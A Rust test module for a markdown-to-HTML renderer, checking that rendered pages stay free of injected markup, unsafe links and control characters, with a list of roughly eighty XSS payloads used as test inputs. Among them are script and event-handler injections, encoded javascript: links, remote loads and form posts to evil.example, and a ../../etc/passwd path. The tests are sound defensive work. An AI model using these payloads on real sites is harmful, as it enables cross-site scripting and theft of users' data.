//! What a text must not do to a page, and what it may look like.

use std::sync::LazyLock;

use regex::Regex;

use super::{Page, Shape, block, inline, label, plain, plain_of_markdown};

/// A mapper that knows one picture.
fn media(path: &str) -> Option<String> {
    (path == "img/led.svg").then(|| "/media/img/led.svg".to_owned())
}

fn shown(text: &str) -> String {
    block(text, &media).into_string()
}

/// Texts that try to get out. Most are known from cheat sheets for testers; the rest tries this writer's own seams.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<svg/onload=alert(1)>",
    "<svg><style>@import'//evil.example'</style></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=java&#1&#2&#3script:alert(1)>x</a>",
    "<style>body{display:none}</style>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=csrf>",
    "<!-- --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "</p></main></body><script>alert(1)</script>",
    "</textarea></title></style></noscript><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<java\tscript:alert(1)>)",
    "[x](<javascript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;&#97;vascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](https:/\\evil.example)",
    "[x](/desk/cases?close=all)",
    "[x](https://good.example\" onmouseover=\"alert(1))",
    "[x](<https://good.example\" onmouseover=\"alert(1)>)",
    "[x](https://good.example/&quot;onmouseover=&quot;alert(1))",
    "[x](https://good.example \"t\\\" onmouseover=\\\"alert(1)\")",
    "[x](https://good.example '\"><script>alert(1)</script>')",
    "[x](https://good.example/'><script>alert(1)</script>)",
    "[<script>alert(1)</script>](https://good.example)",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "[![x\"onload=\"alert(1)](img/led.svg)](https://good.example)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![\"onerror=\"alert(1)](img/led.svg)",
    "![x](img/led.svg\"onerror=\"alert(1))",
    "![x](img/led.svg \"t\\\"onerror=\\\"alert(1)\")",
    "![a ![b \" onload=x](img/led.svg) c](img/led.svg)",
    "![x](../../etc/passwd)",
    "![x](https://evil.example/pixel.gif)",
    "![[a](javascript:alert(1))](img/led.svg)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<vbscript:x>",
    "<https://good.example/\"onmouseover=\"alert(1)>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]: https://good.example \"\\\" onclick=\\\"alert(1)\"",
    "``<script>alert(1)</script>``",
    "```\"><script>alert(1)</script>\ncode </code></pre><script>alert(1)</script>\n```",
    "    </code></pre><img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "# <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "a\0<script\0>b",
    "\u{202e}<b>gnp.exe</b>\u{2069}",
    "&#x202e;gnp.exe",
    "\u{1b}[31mred\u{1b}[0m \u{9b}2J",
    "</a><a href=\"https://evil.example\">",
    "**<b onclick=alert(1)>**",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %>",
];

/// Everything that we write ourselves.
static OURS: LazyLock<Regex> = LazyLock::new(|| {
    let tags = [
        r"</?(p|h[2-6]|ul|ol|li|blockquote|pre|code|em|strong|table|thead|tbody|tr|td)>",
        r"<(br|hr)>",
        r#"<ol start="[0-9]+">"#,
        r#"<pre tabindex="0">"#,
        r#"<div class="table" tabindex="0">|</div>|</th>|<td class="(right|center)">"#,
        r#"<th scope="col"( class="(right|center)")?>"#,
        r#"<a href="(https?://[^"<>/@\s\\]+([/?#][^"<>\s\\]*)?|mailto:[^"<>\s\\]+|tel:[^"<>\s\\]+)" rel="noopener noreferrer nofollow"( target="_blank")?>"#,
        "</a>",
        r#"<img src="/media/img/led.svg" alt="[^"<>]*" loading="lazy">"#,
    ];
    Regex::new(&tags.join("|")).unwrap()
});

fn assert_harmless(attack: &str, html: &str) {
    let rest = OURS.replace_all(html, "");
    assert!(!rest.contains(['<', '>', '"']), "{attack:?} gave {html}");
    let harmful = |character: char| {
        (character.is_control() && character != '\n' && character != '\t')
            || matches!(character, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    };
    assert!(!html.contains(harmful), "{attack:?} gave {html:?}");
}

#[test]
fn no_attack_gets_out_of_any_place() {
    for attack in ATTACKS {
        let wrapped = [
            (*attack).to_owned(),
            format!("before {attack} after"),
            format!("1. {attack}\n2. b"),
            format!("> {attack}"),
            format!("[{attack}](https://good.example)"),
            format!("[a](<{attack}>)"),
            format!("[a](https://good.example \"{attack}\")"),
            format!("![{attack}](img/led.svg)"),
            format!("<{attack}>"),
            format!("**{attack}**"),
            format!("`{attack}`"),
            format!("| {attack} | a |\n|---|:-:|\n| {attack} | {attack} |"),
        ];
        for text in wrapped {
            for html in [
                shown(&text),
                inline(&text).into_string(),
                label(&text).into_string(),
            ] {
                assert_harmless(&text, &html);
            }
            let inside = label(&text).into_string();
            assert!(
                !inside.contains("<a ") && !inside.contains("<img"),
                "{inside}"
            );
        }
    }
}

#[test]
fn attacks_joined_do_not_help_each_other() {
    for first in ATTACKS {
        for second in ATTACKS {
            let text = format!("{first}{second}");
            assert_harmless(&text, &shown(&text));
        }
    }
}

#[test]
fn tags_are_closed_in_the_order_of_their_opening() {
    let tag = Regex::new("<(/?)([a-z0-9]+)[^>]*>").unwrap();
    for attack in ATTACKS {
        for html in [
            shown(attack),
            shown(&format!("- [{attack}](https://a.b)\n\n  {attack}")),
            shown(&format!(
                "> | {attack} | a |\n> |---|--:|\n> | {attack} | b |\n{attack}"
            )),
        ] {
            let mut open = Vec::new();
            for found in tag.captures_iter(&html) {
                let name = found[2].to_owned();
                match (&found[1], name.as_str()) {
                    (_, "br" | "hr" | "img") => {}
                    ("/", _) => assert_eq!(open.pop(), Some(name), "{html}"),
                    _ => open.push(name),
                }
            }
            assert!(open.is_empty(), "{html}");
        }
    }
}

#[test]
fn a_text_keeps_its_shape() {
    let text = "Do *this* **now**:\n\n1. Unplug it.\n2. Wait\n   - a bit\n\n> calm\n\n    ping  <b>\n\nsee `a & b`";
    assert_eq!(
        shown(text),
        "<p>Do <em>this</em> <strong>now</strong>:</p><ol><li>Unplug it.</li><li>Wait<ul><li>a bit</li></ul></li></ol><blockquote><p>calm</p></blockquote><pre tabindex=\"0\"><code>ping  &lt;b&gt;\n</code></pre><p>see <code>a &amp; b</code></p>"
    );
}

#[test]
fn a_table_is_a_table_that_scrolls_within_itself() {
    assert_eq!(
        shown(
            "| Light | It **means** | Times |\n|---|:-:|--:|\n| red | `no` & never | 3 |\n| off |"
        ),
        "<div class=\"table\" tabindex=\"0\"><table><thead><tr><th scope=\"col\">Light</th><th scope=\"col\" class=\"center\">It <strong>means</strong></th><th scope=\"col\" class=\"right\">Times</th></tr></thead><tbody><tr><td>red</td><td class=\"center\"><code>no</code> &amp; never</td><td class=\"right\">3</td></tr><tr><td>off</td><td class=\"center\"></td><td class=\"right\"></td></tr></tbody></table></div>"
    );
    assert_eq!(
        shown("| Light |\n|---|"),
        "<div class=\"table\" tabindex=\"0\"><table><thead><tr><th scope=\"col\">Light</th></tr></thead></table></div>"
    );
    assert_eq!(
        inline("Look:\n\n| A | B |\n|---|---|\n| 1 | 2 |\n\nWait").into_string(),
        "Look:<br>A | B<br>1 | 2<br>Wait"
    );
    assert_eq!(
        label("| A | B |\n|---|---|\n| 1 | 2 |").into_string(),
        "A | B 1 | 2"
    );
    assert_eq!(plain("| A | B |\n|---|---|\n| 1 | 2 |"), "A B 1 2");
}

#[test]
fn links_lead_out_and_say_so() {
    assert_eq!(
        shown("[a](https://a.b/?c=d&e) <help@a.b> [call](tel:+49123)"),
        "<p><a href=\"https://a.b/?c=d&amp;e\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">a</a> <a href=\"mailto:help@a.b\" rel=\"noopener noreferrer nofollow\">help@a.b</a> <a href=\"tel:+49123\" rel=\"noopener noreferrer nofollow\">call</a></p>"
    );
}

#[test]
fn what_may_be_no_link_shows_its_address() {
    assert_eq!(
        shown("See [the list](files/list.txt) and <javascript:x>."),
        "<p>See the list (files/list.txt) and javascript:x.</p>"
    );
}

#[test]
fn pictures_of_the_library_are_shown_others_are_linked() {
    assert_eq!(
        shown("![the *green* light](img/led.svg)"),
        "<p><img src=\"/media/img/led.svg\" alt=\"the green light\" loading=\"lazy\"></p>"
    );
    assert_eq!(
        shown("![a light](https://a.b/led.png) ![other](other.svg)"),
        "<p><a href=\"https://a.b/led.png\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">a light</a> other</p>"
    );
}

#[test]
fn headings_begin_below_the_pages_own_and_skip_none() {
    assert_eq!(
        shown("### A\n##### B\n###### C\n# D\n## E"),
        "<h2>A</h2><h3>B</h3><h4>C</h4><h2>D</h2><h3>E</h3>"
    );
}

#[test]
fn a_text_in_a_line_keeps_its_numbers_and_paragraphs() {
    assert_eq!(inline("5. floor").into_string(), "5. floor");
    assert_eq!(
        inline("one\n\n- two\n- three\n\n***\n\n[four](https://a.b)").into_string(),
        "one<br>• two<br>• three<br><a href=\"https://a.b\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">four</a>"
    );
    assert_eq!(
        label("one *two*\n\n[three](https://a.b) <b>").into_string(),
        "one <em>two</em> three &lt;b&gt;"
    );
}

#[test]
fn words_alone_are_one_line() {
    assert_eq!(
        plain("Is **Wi**-Fi\n`on`?\n\n- really\u{202e}"),
        "Is Wi-Fi on? really�"
    );
    assert_eq!(plain("5. floor"), "5. floor");
}

#[test]
fn nested_deeply_it_stays_quick() {
    let deep = "> ".repeat(20_000) + "a";
    assert!(shown(&deep).ends_with("</blockquote>"));
    let links = "[".repeat(20_000);
    assert!(shown(&links).starts_with("<p>[["));
}

proptest::proptest! {
    /// The short way for a text of mere words gives what the long one gives.
    #[test]
    fn mere_words_look_the_same_unparsed(text in "[A-Za-zäßж][A-Za-z0-9äж .,;:?()/%'\"’“”–—-]{0,40}") {
        if !super::is_words(&text) {
            return Ok(());
        }
        for shape in [Shape::Block, Shape::Inline, Shape::Label] {
            let long = Page::new(shape, &media).parsed(&text).into_string();
            let short = Page::new(shape, &media).whole(&text).into_string();
            proptest::prop_assert_eq!(long, short);
        }
        proptest::prop_assert_eq!(plain_of_markdown(&text), plain(&text));
    }
}
